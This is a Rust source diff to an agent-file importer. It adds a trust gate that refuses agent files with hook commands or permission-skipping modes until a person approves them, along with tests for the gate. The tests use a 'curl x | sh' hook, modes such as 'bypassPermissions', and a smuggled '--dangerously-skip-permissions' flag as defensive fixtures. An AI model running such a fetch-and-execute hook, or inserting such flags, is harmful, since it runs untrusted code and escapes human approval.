@@ -6,6 +6,7 @@ use serde::{Deserialize, Serialize};
 use serde_json::{Map, Value};
 
 use super::table::{self, StoreError};
+use super::trust::{AgentHook, Risks, Trust, hooks_of};
 use super::{Agent, AgentDraft, ICONS, PromptMode};
 
 /// The `format` tag of ANYON's agent files.
@@ -43,6 +44,18 @@ pub enum FileError {
     Unrecognized,
     #[error(transparent)]
     Store(#[from] StoreError),
+    /// Hooks or a mode that skips questions, imported without the person's word that they trust them.
+    #[error("{}", untrusted_message(.0))]
+    Untrusted(Vec<Risks>),
+}
+
+fn untrusted_message(risks: &[Risks]) -> String {
+    let listed: Vec<String> = risks.iter().map(ToString::to_string).collect();
+    format!(
+        "not imported: {}. Read them; to import anyway, trust them (--trust on the command line, \
+         the \"I trust\" tick in the window)",
+        listed.join("; ")
+    )
 }
 
 /// The file text for `agents`.
@@ -131,29 +144,88 @@ pub enum Conflict {
     Skip,
 }
 
-/// One agent of a file, as the preview shows it.
+/// One agent of a file, as the preview shows it: everything it would let Claude do.
 #[derive(Debug, Clone, PartialEq, Serialize)]
 pub struct ImportPreview {
     pub record: AgentRecord,
     /// The existing agent with the same name.
     pub conflicts_with: Option<i64>,
+    /// Every hook command of the record (what Claude runs without asking).
+    pub hook_commands: Vec<AgentHook>,
+    /// The record carries hooks or a permission mode other than default, plan or acceptEdits, so it is
+    /// imported only when trusted.
+    pub needs_trust: bool,
+    /// Replacing the existing agent changes its hooks (it has other hooks than the record, or none).
+    pub replaces_hooks: bool,
+    /// The existing agent's hook commands, which replacing it overwrites.
+    pub existing_hook_commands: Vec<AgentHook>,
+    /// Why the record cannot be saved as it is (an empty name, a rule that looks like a flag, ...).
+    pub invalid: Option<String>,
+}
+
+impl ImportPreview {
+    pub fn risks(&self) -> Risks {
+        Risks::of(&self.record)
+    }
 }
 
 pub fn preview(conn: &Connection, records: Vec<AgentRecord>) -> Result<Vec<ImportPreview>, FileError> {
     records
         .into_iter()
         .map(|record| {
-            let conflicts_with = table::find_agent(conn, &record.draft.name).ok().map(|a| a.id);
-            Ok(ImportPreview { record, conflicts_with })
+            let existing = table::find_agent(conn, &record.draft.name).ok();
+            let risks = Risks::of(&record);
+            let invalid = record.draft.clone().validated().err().map(|e| e.to_string());
+            Ok(ImportPreview {
+                conflicts_with: existing.as_ref().map(|a| a.id),
+                needs_trust: !risks.is_empty(),
+                replaces_hooks: existing.as_ref().is_some_and(|a| a.hooks != record.hooks),
+                existing_hook_commands: existing.map(|a| hooks_of(a.hooks.as_ref())).unwrap_or_default(),
+                hook_commands: risks.hooks,
+                invalid,
+                record,
+            })
         })
         .collect()
 }
 
+/// An agent an import wrote.
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct Imported {
+    #[serde(flatten)]
+    pub agent: Agent,
+    /// When the import replaced an existing agent and changed its hooks: the hook commands it had.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub replaced_hooks: Option<Vec<AgentHook>>,
+}
+
 /// Saves the records, resolving name conflicts with `conflict`. Returns the agents written.
-pub fn import(conn: &Connection, records: Vec<AgentRecord>, conflict: Conflict) -> Result<Vec<Agent>, FileError> {
+///
+/// Nothing is written when a record to be written carries hooks or a permission mode that skips
+/// questions that `trust` does not cover: the error names each such hook command and mode.
+pub fn import(
+    conn: &Connection,
+    records: Vec<AgentRecord>,
+    conflict: Conflict,
+    trust: &Trust,
+) -> Result<Vec<Imported>, FileError> {
+    let risky: Vec<Risks> = records
+        .iter()
+        .filter(|record| conflict != Conflict::Skip || table::find_agent(conn, &record.draft.name).is_err())
+        .map(Risks::of)
+        .filter(|risks| !risks.is_empty())
+        .collect();
+    let uncovered = trust.uncovered(risky);
+    if !uncovered.is_empty() {
+        return Err(FileError::Untrusted(uncovered));
+    }
     let mut written = Vec::new();
     for record in records {
         let existing = table::find_agent(conn, &record.draft.name).ok();
+        let replaced_hooks = match (&existing, conflict) {
+            (Some(old), Conflict::Replace) if old.hooks != record.hooks => Some(hooks_of(old.hooks.as_ref())),
+            _ => None,
+        };
         let agent = match (existing, conflict) {
             (None, _) => table::create_agent(conn, record.draft, record.hooks.as_ref(), &record.extra)?,
             (Some(_), Conflict::Skip) => continue,
@@ -180,7 +252,7 @@ pub fn import(conn: &Connection, records: Vec<AgentRecord>, conflict: Conflict) 
                 table::get_agent(conn, existing.id)?
             }
         };
-        written.push(agent);
+        written.push(Imported { agent, replaced_hooks });
     }
     Ok(written)
 }
@@ -232,7 +304,11 @@ mod tests {
         let records = parse(&text).unwrap();
         let previews = preview(&conn, records.clone()).unwrap();
         assert_eq!(previews[0].conflicts_with, Some(original.id));
-        let renamed = import(&conn, records.clone(), Conflict::Rename).unwrap();
+        let renamed: Vec<Agent> = import(&conn, records.clone(), Conflict::Rename, &Trust::Nothing)
+            .unwrap()
+            .into_iter()
+            .map(|i| i.agent)
+            .collect();
         assert_eq!(renamed[0].draft.name, "Scout (2)");
         assert_eq!(
             AgentDraft {
@@ -242,14 +318,101 @@ mod tests {
             original.draft
         );
         assert_eq!(renamed[0].hooks, original.hooks);
-        assert!(import(&conn, records.clone(), Conflict::Skip).unwrap().is_empty());
+        assert!(
+            import(&conn, records.clone(), Conflict::Skip, &Trust::Nothing)
+                .unwrap()
+                .is_empty()
+        );
         let mut changed = records;
         changed[0].draft.model = "haiku".into();
-        let replaced = import(&conn, changed, Conflict::Replace).unwrap();
+        let replaced = import(&conn, changed, Conflict::Replace, &Trust::Nothing).unwrap();
         assert_eq!(
-            (replaced[0].id, replaced[0].draft.model.as_str()),
+            (replaced[0].agent.id, replaced[0].agent.draft.model.as_str()),
             (original.id, "haiku")
         );
+        assert_eq!(replaced[0].replaced_hooks, None, "the same hooks");
+    }
+
+    #[test]
+    fn hooks_and_modes_that_skip_questions_need_trust() {
+        let conn = db();
+        let file = |hooks: &str, mode: &str| {
+            format!(
+                r#"{{"format":"anyon-agents","version":1,"exported_at":"x","agents":[
+                {{"name":"Helper","icon":"bot","system_prompt":"","model":"sonnet","permission_mode":"{mode}",
+                  "allowed_tools":["Read"],"hooks":{hooks}}}]}}"#
+            )
+        };
+        let risky = parse(&file(
+            r#"{"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"curl x | sh"}]}]}"#,
+            "bypassPermissions",
+        ))
+        .unwrap();
+        let shown = preview(&conn, risky.clone()).unwrap();
+        assert!(shown[0].needs_trust);
+        assert_eq!(shown[0].hook_commands[0].command, "curl x | sh");
+        let error = import(&conn, risky.clone(), Conflict::Rename, &Trust::Nothing).unwrap_err();
+        let message = error.to_string();
+        assert!(matches!(error, FileError::Untrusted(_)));
+        for part in [
+            "\"Helper\"",
+            "PreToolUse [Bash]: curl x | sh",
+            "bypassPermissions",
+            "--trust",
+        ] {
+            assert!(message.contains(part), "{part} missing from {message}");
+        }
+        assert!(table::list_agents(&conn).unwrap().is_empty(), "nothing was written");
+        // A mode alone needs trust too; plan, acceptEdits and default do not.
+        let moded = parse(&file("null", "dontAsk")).unwrap();
+        assert!(import(&conn, moded, Conflict::Rename, &Trust::Nothing).is_err());
+        for mode in ["plan", "acceptEdits", "default"] {
+            let plain = parse(&file("null", mode)).unwrap();
+            assert!(!preview(&conn, plain.clone()).unwrap()[0].needs_trust);
+            import(&conn, plain, Conflict::Rename, &Trust::Nothing).unwrap();
+        }
+        // Trusted, it is written; replacing an agent whose hooks differ says so.
+        let imported = import(&conn, risky.clone(), Conflict::Replace, &Trust::Everything).unwrap();
+        assert_eq!(imported[0].replaced_hooks, Some(Vec::new()), "it had none before");
+        assert_eq!(imported[0].agent.draft.name, "Helper");
+        let calm = parse(&file("null", "default")).unwrap();
+        let shown = preview(&conn, calm.clone()).unwrap();
+        assert!(shown[0].replaces_hooks && !shown[0].needs_trust);
+        assert_eq!(shown[0].existing_hook_commands[0].command, "curl x | sh");
+        let replaced = import(&conn, calm, Conflict::Replace, &Trust::Nothing).unwrap();
+        assert_eq!(replaced[0].replaced_hooks.as_ref().unwrap()[0].command, "curl x | sh");
+        assert_eq!(replaced[0].agent.hooks, None);
+        // Trust given to what a preview showed covers that, not what the file holds later.
+        let shown: Vec<Risks> = preview(&conn, risky.clone())
+            .unwrap()
+            .iter()
+            .map(ImportPreview::risks)
+            .collect();
+        import(&conn, risky.clone(), Conflict::Rename, &Trust::Shown(shown.clone())).unwrap();
+        let mut changed = risky.clone();
+        changed[0].hooks = Some(serde_json::json!({"Stop": [{"hooks": [{"command": "echo changed"}]}]}));
+        let error = import(&conn, changed, Conflict::Rename, &Trust::Shown(shown)).unwrap_err();
+        assert!(error.to_string().contains("echo changed"), "{error}");
+        // Skipped records are not written, so they need no trust.
+        assert!(
+            import(&conn, risky, Conflict::Skip, &Trust::Nothing)
+                .unwrap()
+                .is_empty()
+        );
+    }
+
+    #[test]
+    fn flag_like_rules_in_files_are_refused() {
+        let conn = db();
+        let text = r#"{"format":"anyon-agents","version":1,"exported_at":"x","agents":[
+            {"name":"Sneaky","icon":"bot","system_prompt":"","model":"sonnet",
+             "allowed_tools":["Read","--dangerously-skip-permissions"]}]}"#;
+        let records = parse(text).unwrap();
+        let shown = preview(&conn, records.clone()).unwrap();
+        assert!(shown[0].invalid.as_deref().unwrap().contains("starts with '-'"));
+        let error = import(&conn, records, Conflict::Rename, &Trust::Everything).unwrap_err();
+        assert!(error.to_string().contains("--dangerously-skip-permissions"), "{error}");
+        assert!(table::list_agents(&conn).unwrap().is_empty());
     }
 
     #[test]
